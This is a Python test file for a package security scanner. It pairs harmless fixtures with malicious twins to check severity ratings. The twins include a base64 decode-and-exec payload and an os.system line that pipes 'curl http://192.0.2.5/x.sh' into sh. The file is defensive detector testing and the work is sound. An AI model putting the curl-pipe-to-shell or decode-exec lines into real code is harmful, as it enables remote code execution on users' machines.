"""Round 14's false-alarm classes, each a harmless fixture beside a malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder


def _unread(result) -> list:
    return [f for f in result.findings if f.capability == "scan.unread"]


# ---------------------------------------------------------------- a module with a typo
# pipupgrade ships a job script with one ')' too many: no Python compiles the file, so it runs
# nowhere. The rest of it is read by the analyser with that line blanked.
TYPO = (
    "import os.path as osp\nimport requests\n\n"
    "connection = get_connection(location=get_config_path('x')))\n\n\n"
    "def build(url):\n    return requests.get(url).text\n"
)


def test_a_module_with_one_typo_is_read_with_that_line_blanked(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/jobs/build.py": TYPO}, tmp_path)
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]
    (note,) = _unread(result)
    assert note.severity == "medium"
    assert "line 4" in note.explanation and "unmatched ')'" in note.explanation
    # the analyser read the rest: the request in build() is there, on its own line
    assert any(f.capability == "net.outbound" and f.line == 8 for f in result.findings)


def test_a_payload_beside_the_typo_is_still_found(tmp_path):
    payload = TYPO + (
        "\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n"
    )
    result = scan({"pkg/__init__.py": "", "pkg/jobs/build.py": payload}, tmp_path)
    assert_high_with("typo + decode-exec", result, {"chain.decode_exec"})


def test_a_file_broken_on_many_lines_stays_unread_at_high(tmp_path):
    broken = "def f(:\n    x = (]\n    y = {)\n    z = [}\n    return ((\n"
    result = scan({"pkg/__init__.py": "", "pkg/mod.py": broken}, subfolder(tmp_path, "b"))
    assert result.risk.level in HIGH
    assert any(f.severity == "high" for f in _unread(result))


def test_a_payload_written_on_the_broken_line_is_read_by_the_pattern_rules(tmp_path):
    """The blanked line is not lost: pattern rules read it (it cannot run, but a reviewer
    should see what it says)."""
    line = "os.system('curl http://192.0.2.5/x.sh | sh'))\n"
    result = scan({"pkg/__init__.py": "", "pkg/mod.py": "import os\n" + line}, tmp_path)
    hit = [f for f in result.findings if f.capability == "process.shell_download"]
    assert hit and hit[0].line == 2


def test_only_errors_no_python_accepts_are_blanked(tmp_path):
    """ "invalid syntax" on a line a later Python may read (a soft-keyword statement such as
    3.15's ``lazy import``), and a package's ``__init__`` or a setup.py, run by its place,
    with a typo: each of those stays unread high."""
    newer = "import os\nlazy import json\n\n\ndef f():\n    return os.getcwd()\n"
    cases = {
        "newer": {"pkg/__init__.py": "", "pkg/mod.py": newer},
        "init": {"pkg/__init__.py": TYPO},
    }
    for name, files in cases.items():
        result = scan(files, subfolder(tmp_path, name))
        assert [f.severity for f in _unread(result)] == ["high"], name
        assert_high_with(name, result, {"disguise.unread"})


def test_blanked_typos_still_count_toward_a_syntax_test_folder(tmp_path):
    """A parser's folder of invalid cases, half of them bracket typos (now blanked and read),
    half other errors: the folder is still a syntax-test corpus and all of it is medium, as it
    was when none was blanked. The same other errors alone in a package stay high."""
    files = {"pkg/__init__.py": ""}
    for i in range(6):
        files[f"pkg/resources/invalid/case_{i}.py"] = "lazy import json\nx = \n"
        files[f"pkg/resources/invalid/typo_{i}.py"] = "x = f(1))\n"
    result = scan(files, subfolder(tmp_path, "corpus"))
    assert {f.severity for f in _unread(result)} == {"medium"}
    assert result.risk.level not in HIGH
    few = {k: v for k, v in files.items() if "typo" not in k}
    alone = scan(few, subfolder(tmp_path, "few"))
    assert alone.risk.level in HIGH
